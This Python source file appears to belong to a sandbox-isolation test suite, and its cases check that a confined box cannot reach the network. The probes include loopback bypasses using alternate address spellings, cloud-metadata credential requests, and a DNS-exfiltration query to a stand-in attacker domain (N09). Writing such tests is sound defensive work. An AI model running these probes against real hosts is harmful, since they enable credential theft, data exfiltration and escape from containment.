"""N: the network and names. Hosts out there are played by listeners of the harness."""

from __future__ import annotations

import socket

from ringfence.core.model import Json
from ringfence.doctor.case import Case, Control, claimed
from ringfence.doctor.judging import either, reached, seen
from ringfence.doctor.props import Props

_SHARED = Control(share=frozenset({"net"}))
_INTERNET = Control(features=frozenset({"internet"}))
_NO_ROUTE = "no route: the box has a network of its own, with nothing in it"

_CONNECT = """
import socket
def connect(family, address, port, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as way:
        way.settimeout(a_while(2))
        way.connect((address, port))
        if kind == socket.SOCK_STREAM and port in (80, 443):
            way.recv(16)
"""


def _to(*addresses: str) -> str:
    return (
        _CONNECT
        + f"""
any_of({{address: lambda address=address: connect(
        socket.AF_INET6 if ":" in address else socket.AF_INET, address, 80) for address in {addresses!r}}})
"""
    )


def _knock(props: Props, facts: Json) -> Json:
    """Does the host get into the box?"""
    with socket.socket() as way:
        way.settimeout(1)
        return {"knocked": f"port {facts['port']}"} if way.connect_ex(("127.0.0.1", facts["port"])) == 0 else {}


REACHING = (
    Case(
        "N01",
        "connect to a service on the host's loopback",
        "ECONNREFUSED: the box's loopback is its own",
        _CONNECT + "attempt(lambda: connect(socket.AF_INET, '127.0.0.1', given['port']))",
        reached("tcp"),
        props=("tcp",),
        control=_SHARED,
    ),
    Case(
        "N02",
        "connect to it over IPv6 and by addresses that mean the same in other spellings",
        "refused in every spelling",
        _CONNECT
        + """
any_of({name: lambda name=name: connect(socket.AF_INET6 if ":" in name else socket.AF_INET, name, given["port"])
        for name in ("::1", "::ffff:127.0.0.1", "0.0.0.0", "::", "2130706433", "0x7f.1", "127.1", "0177.0.0.1")})
""",
        either(reached("tcp"), reached("tcp6")),
        props=("tcp",),
        control=_SHARED,
    ),
    Case(
        "N03",
        "send a datagram to a service on the host's loopback",
        _NO_ROUTE,
        _CONNECT
        + """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.sendto(b"hello", ("127.0.0.1", given["udp"]))
attempt(send)
say(False, "sent to the box's own loopback, if at all")
""",
        reached("udp"),
        props=("udp",),
        control=_SHARED,
    ),
    Case(
        "N04",
        "connect by multipath TCP, which rules for TCP do not see",
        "refused",
        _CONNECT + "attempt(lambda: connect(socket.AF_INET, '127.0.0.1', given['port'], protocol=262))",
        reached("tcp"),
        props=("tcp",),
        control=_SHARED,
    ),
    Case(
        "N05",
        "connect without connect, by sending with TCP fast open",
        "refused",
        _CONNECT
        + """
def send():
    with socket.socket() as way:
        way.settimeout(a_while(2))
        way.sendto(b"hello", 0x20000000, ("127.0.0.1", given["port"]))
attempt(send)
""",
        reached("tcp"),
        props=("tcp",),
        control=_SHARED,
    ),
    Case(
        "N06",
        "ask the cloud's metadata service for credentials, over IPv4 and IPv6",
        _NO_ROUTE,
        _to("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "169.254.170.2"),
        control=_INTERNET,
    ),
    Case(
        "N07",
        "reach the local network",
        _NO_ROUTE,
        _to("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "fe80::1%1", "fc00::1"),
        control=_INTERNET,
    ),
    Case(
        "N08",
        "reach the internet, past any proxy",
        _NO_ROUTE,
        _to("198.51.100.7", "203.0.113.9", "2001:db8::1"),
        control=_INTERNET,
    ),
    Case(
        "N09",
        "carry a secret out in a DNS question",
        "the question never leaves",
        _CONNECT
        + """
def ask(server):
    question = bytes.fromhex("000101000001000000000000") + b"\\x0873656372\\x08attacker\\x03tld\\0\\0\\x01\\0\\x01"
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.sendto(question, (server, 53))
any_of({server: lambda server=server: ask(server) for server in ("8.8.8.8", "1.1.1.1", "2001:4860:4860::8888")})
""",
        control=_INTERNET,
    ),
    Case(
        "N10",
        "be reached from the host by listening",
        "no connection gets in",
        _CONNECT
        + """
try:
    listener = socket.create_server(("0.0.0.0", 0))
    ready(port=listener.getsockname()[1])
    say(False, "listened, and no connection came")
except OSError as exc:
    say(False, word(exc))
""",
        seen("knocked", "the host got into the box"),
        observe=_knock,
        control=_SHARED,
    ),
    Case(
        "N11",
        "see the host's network: interfaces, routes, connections",
        "a loopback of its own and nothing else",
        """
        found = []
        for line in open("/proc/self/net/dev").read().splitlines()[2:]:
            if line.split(":")[0].strip() not in ("lo",):
                found.append(line.split(":")[0].strip())
        port = f"0100007F:{given['port']:04X}"
        if port in open("/proc/self/net/tcp").read():
            found.append("a listener of the host")
        say(bool(found), ", ".join(found) or "lo")
        """,
        props=("tcp",),
        control=_SHARED,
    ),
    Case(
        "N12",
        "configure the network: bring an interface up with an address",
        "EPERM: no capability in its network either",
        _CONNECT
        + """
import fcntl
def configure():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        fcntl.ioctl(way, 0x8916, struct.pack("16sHH4s8x", b"lo", socket.AF_INET, 0, bytes([10, 9, 8, 7])))
attempt(configure)
""",
    ),
)

_FAMILIES = {
    "N20": ("AF_VSOCK, which leads to the hypervisor", 40, 1, 0),
    "N21": ("AF_NETLINK, which configures the network", 16, 3, 0),
    "N22": ("AF_NETLINK for the firewall", 16, 3, 12),
    "N23": ("AF_PACKET, which sees and sends raw frames", 17, 3, 0),
    "N24": ("AF_XDP", 44, 3, 0),
    "N25": ("a raw IP socket", 2, 3, 1),
    "N26": ("a raw IPv6 socket", 10, 3, 58),
    "N27": ("AF_ALG, the kernel's cryptography", 38, 5, 0),
    "N28": ("AF_NETLINK for the audit log and kernel events", 16, 3, 15),
    "N29": ("UDP-Lite", 2, 2, 136),
}
FAMILIES = tuple(
    Case(
        id,
        f"open a socket of the kind {name}",
        "EAFNOSUPPORT, EPROTONOSUPPORT or EPERM",
        f"import socket\nattempt(lambda: socket.socket({family}, {kind}, {protocol}).close())",
        claimed,
    )
    for id, (name, family, kind, protocol) in _FAMILIES.items()
)

CASES = REACHING + FAMILIES
